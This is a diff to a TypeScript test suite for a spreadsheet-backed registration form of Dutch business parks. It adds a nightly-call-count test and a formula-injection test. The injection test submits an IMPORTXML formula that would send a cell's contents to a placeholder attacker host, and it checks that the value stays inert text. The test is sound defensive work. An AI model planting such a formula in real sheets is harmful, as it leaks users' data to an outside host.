@@ -40,11 +40,12 @@ const fire = (register: TestRegister, handler: string): ExecutionResult =>
 interface Sent {
   readonly from?: number;
   readonly area?: string;
+  readonly place?: string;
   readonly editOf?: string;
 }
 
 /** A correction of Hessenpoort fase 1, with its name misspelt. */
-function submit(register: TestRegister, { from = 1, area = '150,5', editOf }: Sent = {}) {
+function submit(register: TestRegister, { from = 1, area = '150,5', place = 'Zwolle', editOf }: Sent = {}) {
   const form = formFile(register, 'aanmelding');
   const named = (title: string, answer: string) =>
     form.model.items.filter((item) => item.title === title).map(({ id }) => [id, answer] as const);
@@ -57,7 +58,7 @@ function submit(register: TestRegister, { from = 1, area = '150,5', editOf }: Se
       'Naam van het terrein, als het niet in de lijst stond': 'hesenpoort fase 1',
       'Wat wilt u doen?': 'Gegevens van een terrein verbeteren',
       // Asked on more than one page; what stands on a page that is not passed does not count.
-      ...Object.fromEntries([...named('Bruto oppervlakte in hectare', area), ...named('Plaats', 'Zwolle')]),
+      ...Object.fromEntries([...named('Bruto oppervlakte in hectare', area), ...named('Plaats', place)]),
     },
   });
 }
@@ -257,6 +258,35 @@ test(
   },
   LONG,
 );
+
+test('a night with nothing to catch up costs two calls for each form, whatever the number of responses', () => {
+  const register = copy();
+  for (let from = 1; from <= 12; from++) submit(register, { from });
+  fire(register, 'onNight');
+  const before = intakes(register);
+  register.driver.advance(24 * 3_600_000);
+  const { calls } = register.world.executions.findLast(({ functionName }) => functionName === 'onNight')!;
+  expect(calls['Form.getResponses']).toBe(2);
+  expect(intakes(register)).toEqual(before);
+});
+
+test('what is sent as a formula or as HTML stands in the sheet as it was typed', () => {
+  const register = copy();
+  const hostile = '=IMPORTXML("http://kwaad.example/?"&A1;"//a")';
+  const { response } = submit(register, { area: '12,5', place: hostile });
+  expect(response).not.toBeNull();
+  expect(mails(register)[0]!.body_html).toContain('=IMPORTXML(&quot;');
+  const { ask, run } = panel(register);
+  const shown = ask<ShownIntake>('showIntake', 'IN-0001');
+  const { key, print } = shown;
+  const request = { key, print, decisions: decisions(shown, {}), along: {}, explanation: '', overrule: '' };
+  expect(run('handleIntake', request).value).toMatchObject({ ok: true, value: { kind: 'done' } });
+  expect(register.value('terrain', 2, 'town_name')).toBe(hostile);
+  const formulas = register.model.sheets.flatMap(
+    (sheet) => JSON.stringify(sheet.toJSON()).match(/"formula":"[^"]*/g) ?? [],
+  );
+  expect(formulas.filter((text) => /IMPORTXML/.test(text))).toEqual([]);
+});
 
 test('an event of a form that is not the register’s, and one without a response, do nothing', () => {
   const register = copy();
